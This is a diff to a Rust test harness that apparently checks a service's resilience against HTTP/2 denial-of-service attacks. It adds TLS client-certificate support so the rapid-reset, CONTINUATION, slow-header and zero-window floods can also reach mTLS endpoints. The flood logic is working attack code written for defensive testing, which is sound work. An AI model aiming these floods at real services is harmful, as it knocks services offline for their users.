@@ -6,18 +6,26 @@
 pub mod beside;
 mod frames;
 
-use std::{io, time::Duration};
+use std::{io, path::Path, sync::Arc, time::Duration};
 
+use attache::identity::Svid;
+use rustls::{
+    ClientConfig, RootCertStore,
+    crypto::aws_lc_rs::default_provider,
+    pki_types::{PrivateKeyDer, ServerName, pem::PemObject},
+};
 use tokio::{
     io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
     net::{TcpStream, UnixStream},
-    time::{Instant, sleep, timeout_at},
+    time::{Instant, timeout_at},
 };
+use tokio_rustls::TlsConnector;
 
 use self::frames::{
     ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM,
     SETTINGS, WINDOW_UPDATE, call, frame, hello, hello_with, literal,
 };
+use super::wait::eventually;
 
 /// Frames that are written at once.
 const BATCH: u32 = 200;
@@ -62,19 +70,42 @@ pub struct Outcome {
     pub attack: Attack,
     /// Frames that were sent.
     pub sent: u64,
-    /// When the far side ended the connection, and how; `None`: it did not.
+    /// When the far side ended the connection, or the last of the calls of those who read nothing,
+    /// and how; `None`: it did not.
     pub closed: Option<(Duration, String)>,
 }
 
 /// The calls that attackers make.
 #[derive(Clone, Copy, Debug)]
 pub struct Victim<'a> {
-    /// `host:port` or `unix:/path`, in plaintext.
+    /// `host:port` or `unix:/path`.
     pub address: &'a str,
+    /// The member to be at `address`, and what an attacker shows who is one; `None`: in plaintext.
+    pub tls: Option<(&'static str, &'a TlsConnector)>,
+    /// Whom the calls are for.
+    pub authority: &'a str,
     /// A unary method that there is, and that takes an empty message.
     pub known: &'a str,
-    /// One that answers without end, with its message; for [`Attack::SlowStreams`].
+    /// One that answers without end, with its message; for [`Attack::SlowStreams`], and for
+    /// [`Attack::ZeroWindow`] where it is there.
     pub endless: Option<(&'a str, &'a [u8])>,
+}
+
+impl<'a> Victim<'a> {
+    /// The services of whoever listens there itself.
+    pub fn of(address: &'a str, known: &'a str) -> Self {
+        Self {
+            address,
+            tls: None,
+            authority: "localhost",
+            known,
+            endless: None,
+        }
+    }
+
+    fn call(&self, path: &str) -> Vec<u8> {
+        call(path, self.authority)
+    }
 }
 
 /// Bytes both ways.
@@ -107,10 +138,11 @@ impl Attack {
     pub async fn run(self, victim: Victim<'_>, frames: u64, time: Duration) -> Outcome {
         let mut one = Attacker {
             attack: self,
-            io: connect(victim.address).await.unwrap(),
+            io: reach(&victim).await.unwrap(),
             began: Instant::now(),
             until: Instant::now() + time,
             sent: 0,
+            ended: 0,
             here: Vec::new(),
         };
         let closed = match one.carry_out(victim, frames).await {
@@ -138,9 +170,9 @@ impl Attack {
     fn opening(self, victim: Victim<'_>) -> Vec<u8> {
         let mut all = hello();
         match self {
-            Self::Continuation => all.extend(frame(HEADERS, 0, 1, &call(victim.known))),
+            Self::Continuation => all.extend(frame(HEADERS, 0, 1, &victim.call(victim.known))),
             Self::EmptyData => {
-                all.extend(frame(HEADERS, END_HEADERS, 1, &call(victim.known)));
+                all.extend(frame(HEADERS, END_HEADERS, 1, &victim.call(victim.known)));
             }
             Self::RapidResetKnown
             | Self::RapidResetUnknown
@@ -161,7 +193,7 @@ impl Attack {
     /// The frames of one round of the flood, the `round`th.
     fn round(self, victim: Victim<'_>, round: u32) -> Vec<u8> {
         let stream = (2 * round + 1) & 0x7fff_ffff;
-        let opened = |path: &str| frame(HEADERS, END_HEADERS, stream, &call(path));
+        let opened = |path: &str| frame(HEADERS, END_HEADERS, stream, &victim.call(path));
         match self {
             Self::RapidResetKnown | Self::RapidResetUnknown => {
                 let known = self == Self::RapidResetKnown;
@@ -201,6 +233,8 @@ struct Attacker {
     began: Instant,
     until: Instant,
     sent: u64,
+    /// Calls that the far side has ended.
+    ended: u32,
     here: Vec<u8>,
 }
 
@@ -211,12 +245,12 @@ impl Attacker {
         }
         match self.attack {
             Attack::SlowHeaders => {
-                let begun = frame(HEADERS, 0, 1, &call(victim.known));
+                let begun = frame(HEADERS, 0, 1, &victim.call(victim.known));
                 self.send(&[hello(), begun].concat(), 1).await?;
             }
             Attack::ByteByByte => {
                 self.send(&hello(), 0).await?;
-                for byte in frame(HEADERS, END_HEADERS, 1, &call(victim.known)) {
+                for byte in frame(HEADERS, END_HEADERS, 1, &victim.call(victim.known)) {
                     self.send(&[byte], 0).await?;
                     let next = (Instant::now() + Duration::from_secs(1)).min(self.until);
                     if let Some(how) = self.watch(next).await? {
@@ -230,7 +264,8 @@ impl Attacker {
             Attack::ZeroWindow => {
                 // SETTINGS_INITIAL_WINDOW_SIZE is 4.
                 let hello = hello_with(&[(4, 0)]);
-                let calls = opened(victim.known, &[0; 5]);
+                let (path, message) = victim.endless.unwrap_or((victim.known, &[0; 5]));
+                let calls = opened(&victim, path, message);
                 self.send(&[hello, calls].concat(), SLOW_STREAMS.into())
                     .await?;
             }
@@ -238,7 +273,7 @@ impl Attacker {
                 let Some((path, message)) = victim.endless else {
                     return Ok(None);
                 };
-                let calls = opened(path, message);
+                let calls = opened(&victim, path, message);
                 self.send(&[hello(), calls].concat(), SLOW_STREAMS.into())
                     .await?;
             }
@@ -304,6 +339,13 @@ impl Attacker {
             for (kind, flags, payload) in frames::taken(&mut self.here) {
                 match kind {
                     GOAWAY => return Ok(Some(goaway(&payload))),
+                    RST_STREAM if self.attack == Attack::ZeroWindow => {
+                        self.ended += 1;
+                        if self.ended == SLOW_STREAMS {
+                            let code = payload[3];
+                            return Ok(Some(format!("all calls reset, the last with {code}")));
+                        }
+                    }
                     _ if self.attack.is_mute() => {}
                     // Who answers these is taken for somebody who is there.
                     PING if flags & ACK == 0 => {
@@ -328,10 +370,10 @@ impl Attacker {
 }
 
 /// Calls whose message is sent and whose answers are never taken.
-fn opened(path: &str, message: &[u8]) -> Vec<u8> {
+fn opened(victim: &Victim<'_>, path: &str, message: &[u8]) -> Vec<u8> {
     let calls = (0..SLOW_STREAMS).map(|place| {
         let stream = 2 * place + 1;
-        let head = frame(HEADERS, END_HEADERS, stream, &call(path));
+        let head = frame(HEADERS, END_HEADERS, stream, &victim.call(path));
         [head, frame(DATA, END_STREAM, stream, message)].concat()
     });
     calls.collect::<Vec<_>>().concat()
@@ -344,10 +386,36 @@ fn goaway(payload: &[u8]) -> String {
     format!("GOAWAY {code} {why}").trim_end().to_owned()
 }
 
+/// What a bad member shows: the certificate in a directory, and whom it trusts.
+pub fn member(dir: &Path) -> TlsConnector {
+    let svid = Svid::load(dir).unwrap();
+    let mut roots = RootCertStore::empty();
+    for root in svid.bundle() {
+        roots.add(root.clone()).unwrap();
+    }
+    let key = PrivateKeyDer::from_pem_file(dir.join("key.pem")).unwrap();
+    let config = ClientConfig::builder_with_provider(Arc::new(default_provider()))
+        .with_protocol_versions(&[&rustls::version::TLS13])
+        .unwrap()
+        .with_root_certificates(roots)
+        .with_client_auth_cert(svid.chain().to_vec(), key);
+    let mut config = config.unwrap();
+    config.alpn_protocols = vec![b"h2".to_vec()];
+    TlsConnector::from(Arc::new(config))
+}
+
+async fn reach(victim: &Victim<'_>) -> io::Result<Box<dyn Stream>> {
+    let io = connect(victim.address).await;
+    let Some((name, connector)) = victim.tls else {
+        return Ok(io);
+    };
+    let name = ServerName::try_from(name).unwrap();
+    Ok(Box::new(connector.connect(name, io).await?))
+}
+
 /// Connects; a far side that is busy may take a while.
-async fn connect(address: &str) -> io::Result<Box<dyn Stream>> {
-    let mut tries = 50;
-    loop {
+async fn connect(address: &str) -> Box<dyn Stream> {
+    eventually("a connection", || async {
         let connected: io::Result<Box<dyn Stream>> = match address.strip_prefix("unix:") {
             Some(path) => match UnixStream::connect(path).await {
                 Ok(stream) => Ok(Box::new(stream)),
@@ -358,10 +426,7 @@ async fn connect(address: &str) -> io::Result<Box<dyn Stream>> {
                 Err(error) => Err(error),
             },
         };
-        match connected {
-            Err(_) if tries > 0 => tries -= 1,
-            other => return other,
-        }
-        sleep(Duration::from_millis(20)).await;
-    }
+        connected.map_err(|error| format!("{address}: {error}"))
+    })
+    .await
 }
